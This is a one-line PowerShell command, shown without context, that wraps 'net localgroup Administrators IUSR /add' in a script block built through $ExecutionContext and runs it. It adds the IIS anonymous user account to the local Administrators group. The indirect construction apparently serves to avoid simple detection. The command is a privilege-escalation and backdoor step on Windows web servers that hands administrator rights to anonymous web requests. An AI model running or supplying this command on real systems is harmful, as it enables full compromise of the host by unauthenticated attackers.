$b = $ExecutionContext.InvokeCommand.NewScriptBlock('net localgroup Administrators IUSR /add'); & $b
